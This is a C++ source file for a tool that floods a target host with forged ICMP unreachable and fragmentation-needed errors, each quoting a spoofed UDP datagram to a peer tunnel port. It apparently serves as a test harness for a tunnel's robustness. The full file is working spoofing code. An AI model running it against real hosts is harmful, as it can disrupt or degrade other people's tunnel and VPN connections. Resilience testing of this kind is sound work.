// Sends forged ICMP errors to a host: each quotes a datagram that the host's tunnel socket may have sent to a peer.
//
//   forge_icmp <victim> <peer> <port> <per second> <milliseconds>
//
// Kinds in turn: port unreachable, host unreachable, protocol unreachable, fragmentation needed (MTU 1400).
// Prints "forging", then "sent <count>".

#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>

namespace {

uint16_t Checksum(const uint8_t* data, size_t length) {
  uint32_t sum = 0;
  for (size_t i = 0; i + 1 < length; i += 2) sum += static_cast<uint32_t>(data[i]) << 8 | data[i + 1];
  while (sum > 0xffff) sum = (sum & 0xffff) + (sum >> 16);
  return htons(static_cast<uint16_t>(~sum));
}

uint64_t NowUs() {
  timespec now;
  ::clock_gettime(CLOCK_MONOTONIC, &now);
  return static_cast<uint64_t>(now.tv_sec) * 1000000 + static_cast<uint64_t>(now.tv_nsec) / 1000;
}

}  // namespace

int main(int argc, char** argv) {
  if (argc != 6) return 2;
  sockaddr_in victim{};
  victim.sin_family = AF_INET;
  ::inet_pton(AF_INET, argv[1], &victim.sin_addr);
  const uint16_t port = htons(static_cast<uint16_t>(std::atoi(argv[3])));
  const uint64_t per_second = std::strtoull(argv[4], nullptr, 10);
  const uint64_t duration_us = std::strtoull(argv[5], nullptr, 10) * 1000;
  const int fd = ::socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
  if (fd < 0) return 1;

  uint8_t packet[8 + 20 + 8] = {};
  uint8_t* quote = packet + 8;
  quote[0] = 0x45;
  quote[3] = 200;
  quote[8] = 64;
  quote[9] = IPPROTO_UDP;
  std::memcpy(quote + 12, &victim.sin_addr, 4);
  ::inet_pton(AF_INET, argv[2], quote + 16);
  const uint16_t quote_sum = Checksum(quote, 20);
  std::memcpy(quote + 10, &quote_sum, 2);
  std::memcpy(quote + 20, &port, 2);
  std::memcpy(quote + 22, &port, 2);
  quote[25] = 180;

  std::printf("forging\n");
  std::fflush(stdout);
  const uint8_t codes[] = {3, 1, 2, 4};
  const uint64_t started = NowUs();
  uint64_t sent = 0;
  for (uint64_t now = started; now < started + duration_us; now = NowUs()) {
    for (const uint64_t due = (now - started) * per_second / 1000000; sent < due; sent++) {
      packet[0] = 3;
      packet[1] = codes[sent % sizeof codes];
      const uint16_t mtu = htons(packet[1] == 4 ? 1400 : 0);
      std::memcpy(packet + 6, &mtu, 2);
      std::memset(packet + 2, 0, 2);
      const uint16_t sum = Checksum(packet, sizeof packet);
      std::memcpy(packet + 2, &sum, 2);
      ::sendto(fd, packet, sizeof packet, 0, reinterpret_cast<const sockaddr*>(&victim), sizeof victim);
    }
    ::usleep(500);
  }
  std::printf("sent %llu\n", static_cast<unsigned long long>(sent));
}
